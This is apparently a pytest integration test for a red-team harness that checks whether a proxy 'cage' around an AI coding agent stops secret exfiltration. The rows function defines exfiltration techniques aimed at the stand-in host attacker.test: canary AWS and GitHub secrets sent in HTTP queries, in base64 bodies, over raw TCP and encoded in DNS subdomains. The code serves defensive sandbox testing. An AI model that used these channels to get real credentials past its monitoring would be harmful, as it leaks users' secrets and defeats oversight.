"""A whole red-team run on loopback, no Docker: the real sink, the real probe code, a stand-in cage.

The "agent" is a local Python process fed exactly what ``Backend.exec`` would
send into a container; the attacker is the real sink (images/sink) on
loopback ports; the "proxy" is a small stand-in that refuses any request
carrying a canary (403 + X-Yolo-Cage-Block) and forwards the rest to the sink.
Attacks that skip the stand-in reach the sink: this is a cage with a hole,
and the scorecard must say so, naming the technique and the canary.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from kit.backend import Backend, ExecResult
from kit.redteam import catalog, runner
from kit.redteam.catalog import NETWORK, PROXY, Technique
from kit.redteam.classify import BLOCKED, LEAKED, SKIPPED
from kit.redteam.scorecard import text
from kit.redteam.targets import Targets
from kit.redteam.world import World

pytestmark = pytest.mark.integration
REPO = Path(__file__).resolve().parents[4]
SINK_CODE = REPO / "images/sink/files/opt/yolo-cage"
M = "{{m}}"


def free_port(kind: int = socket.SOCK_STREAM) -> int:
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class StandInProxy:
    """Refuses requests that carry any of ``secrets``; forwards the others to the sink."""

    def __init__(self, sink_port: int):
        self.sink_port, self.secrets = sink_port, [b"never-matches"]
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        with conn:
            head, body = self._read(conn)
            if any(s in head + body for s in self.secrets):
                conn.sendall(b"HTTP/1.1 403 Forbidden\r\nX-Yolo-Cage-Block: secret-in-request\r\n"
                             b"Content-Length: 0\r\nConnection: close\r\n\r\n")
                return
            first, _, rest = head.partition(b"\r\n")
            method, target, version = first.split(b" ")
            origin = b"/" + target.split(b"/", 3)[3] if target.startswith(b"http://") else target
            with socket.create_connection(("127.0.0.1", self.sink_port)) as upstream:
                upstream.sendall(b" ".join([method, origin, version]) + b"\r\n" + rest + body)
                while chunk := upstream.recv(65536):
                    conn.sendall(chunk)

    @staticmethod
    def _read(conn: socket.socket) -> tuple[bytes, bytes]:
        data = b""
        while b"\r\n\r\n" not in data:
            data += conn.recv(65536)
        head, _, body = data.partition(b"\r\n\r\n")
        length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), 0)
        while len(body) < length:
            body += conn.recv(65536)
        return head + b"\r\n\r\n", body


class LocalBackend(Backend):
    name = "local"

    def __init__(self, proxy_port: int):
        self.proxy_port = proxy_port

    def exec(self, agent, argv, *, user=None, env=None, stdin=None, timeout=None) -> ExecResult:
        proxy = f"http://dev:token@127.0.0.1:{self.proxy_port}"
        full_env = {**os.environ, **(env or {}), "HTTP_PROXY": proxy, "HTTPS_PROXY": proxy}
        proc = subprocess.run([sys.executable, *argv[1:]], input=stdin, capture_output=True, env=full_env,
                              timeout=timeout, check=False)
        return ExecResult(proc.returncode, proc.stdout, proc.stderr)

    def agents(self):
        return ["dev"]

    def up(self, *, retain=False): raise NotImplementedError
    def down(self, *, remove_data=False): raise NotImplementedError
    def status(self): raise NotImplementedError
    def shell(self, agent): raise NotImplementedError
    def attach(self, agent): raise NotImplementedError
    def logs(self, target, *, follow=False, tail=200): raise NotImplementedError
    def read_audit(self, *, tail=None): raise NotImplementedError


class LocalWorld(World):
    def __init__(self, backend: LocalBackend, capture: Path):
        self.backend, self.capture = backend, capture

    def targets(self, agent, host_port):
        return Targets(agent=agent, proxy_host="127.0.0.1", proxy_ip="127.0.0.1", proxy_port=self.backend.proxy_port,
                       sink_ip="127.0.0.1", sink_name="localhost")

    def sink_mark(self) -> int:
        return self.capture.stat().st_size

    def sink_lines(self, since: int) -> list[str]:
        return self.capture.read_bytes()[since:].decode().splitlines()

    def allowed_sources(self):
        return {"127.0.0.1"}


@pytest.fixture(scope="module")
def sink(tmp_path_factory):
    directory = tmp_path_factory.mktemp("sink")
    ports = {"http": free_port(), "https": free_port(), "tcp": free_port(), "dns": free_port(socket.SOCK_DGRAM)}
    env = {**os.environ, "PYTHONPATH": str(SINK_CODE), "SINK_CAPTURE_DIR": str(directory), "SINK_ICMP": "0",
           "SINK_HTTP_PORTS": str(ports["http"]), "SINK_HTTPS_PORTS": str(ports["https"]), "SINK_TCP_PORTS": str(ports["tcp"]),
           "SINK_UDP_PORTS": "", "SINK_DNS_PORTS": str(ports["dns"]), "SINK_DNS_ANSWER": "127.0.0.1"}
    proc = subprocess.Popen([sys.executable, "-m", "sink"], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        assert proc.stdout is not None
        line = proc.stdout.readline().decode()
        assert "sink ready" in line, line
        yield directory / "events.jsonl", ports
    finally:
        proc.terminate()
        proc.wait(10)


def rows(ports: dict[str, int]) -> list[Technique]:
    url = f"http://collect.attacker.test:{ports['http']}/rt/{M}"
    return [
        Technique("t-query", "content", "a token in the query, through the stand-in proxy",
                  ({"op": "http", "url": url + "?k={{c:env-github}}"},), ({"op": "http", "url": url + "?k=clean"},),
                  "must be refused", PROXY),
        Technique("t-base64-body", "encoding", "base64 body through the stand-in (it only knows plain secrets)",
                  ({"op": "http", "method": "POST", "url": url, "body": {"raw": "{{c:env-aws-secret|base64}}"}},),
                  ({"op": "http", "method": "POST", "url": url, "body": {"raw": "clean"}},), "a hole", PROXY),
        Technique("t-direct-tcp", "network", "raw TCP straight to the sink",
                  ({"op": "tcp", "host": "${sink_ip}", "port": ports["tcp"], "payload": f"RT {M} {{{{c:file-aws-secret}}}}\n"},),
                  ({"op": "tcp", "host": "${proxy_ip}", "port": "${proxy_port}", "payload": f"GET /rt/{M} HTTP/1.1\r\n\r\n"},),
                  "no route but the proxy", NETWORK, control_at="agent"),
        Technique("t-dns", "dns", "a DNS query straight to the attacker's name server",
                  ({"op": "dns", "name": f"{{{{c:env-aws-key-id|hex}}}}.{M}.exfil.attacker.test", "server": "${sink_ip}",
                    "port": ports["dns"]},),
                  ({"op": "resolve", "name": "localhost"},), "no DNS out", NETWORK, control_at="agent"),
        Technique("t-other-agent", "network", "needs a second agent", ({"op": "tcp", "host": "${other_agent_ip}", "port": 1},),
                  ({"op": "tcp", "host": "${proxy_ip}", "port": "${proxy_port}"},), "x", NETWORK, control_at="agent"),
    ]


def test_a_cage_with_holes_fails_the_scorecard_and_names_them(sink):
    capture, ports = sink
    proxy = StandInProxy(ports["http"])
    session = runner.Session(LocalWorld(LocalBackend(proxy.port), capture), runner.Options(techniques=rows(ports)))
    proxy.secrets = [c.value.encode() for c in session.canaries.canaries]
    report = session.run()
    verdicts = {v.id: v for v in report.verdicts}

    assert verdicts["t-query"].verdict == BLOCKED, verdicts["t-query"]
    assert verdicts["t-query"].detail == "secret-in-request"
    assert verdicts["t-base64-body"].verdict == LEAKED
    assert "whole canary env-aws-secret (aws-secret-access-key) at the sink" in verdicts["t-base64-body"].detail
    assert "(base64)" in verdicts["t-base64-body"].detail
    assert verdicts["t-direct-tcp"].verdict == LEAKED and "file-aws-secret" in " ".join(verdicts["t-direct-tcp"].evidence)
    assert verdicts["t-dns"].verdict == LEAKED and "env-aws-key-id" in verdicts["t-dns"].detail
    assert verdicts["t-other-agent"].verdict == SKIPPED
    assert not report.ok and report.canary_bytes >= 40 + 40 + 16
    assert "RESULT: FAIL: 3 leaked" in text(report)
    assert not Path(session.run_dir).exists(), "the canaries were not removed"


def test_the_same_run_passes_when_the_holes_are_closed(sink):
    capture, ports = sink
    proxy = StandInProxy(ports["http"])
    only_query = [t for t in rows(ports) if t.id == "t-query"]
    session = runner.Session(LocalWorld(LocalBackend(proxy.port), capture), runner.Options(techniques=only_query))
    proxy.secrets = [c.value.encode() for c in session.canaries.canaries]
    started = time.monotonic()
    report = session.run()
    assert report.ok, text(report)
    assert report.capture_events >= 2 and report.canary_bytes == 0
    assert time.monotonic() - started < 30


def test_raw_bytes_on_the_sinks_tls_port_are_recorded(sink):
    """A raw tunnel through CONNECT :443 lands on the sink's TLS port: it must be seen, not lost in a handshake."""
    capture, ports = sink
    with socket.create_connection(("127.0.0.1", ports["https"]), timeout=5) as conn:
        conn.sendall(b"RT rt-000000-999a0 raw bytes, not TLS\r\n")
        time.sleep(0.5)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        if b"rt-000000-999a0" in capture.read_bytes() or b"cnQtMDAwMDAwLTk5OWEw" in capture.read_bytes():
            break
        time.sleep(0.1)
    events = [json.loads(line) for line in capture.read_text().splitlines()]
    raw = [e for e in events if e["kind"] == "tcp" and e["listener"] == f"tcp/{ports['https']}"]
    assert raw and base64.b64decode(raw[0]["data_b64"]).startswith(b"RT rt-000000-999a0")
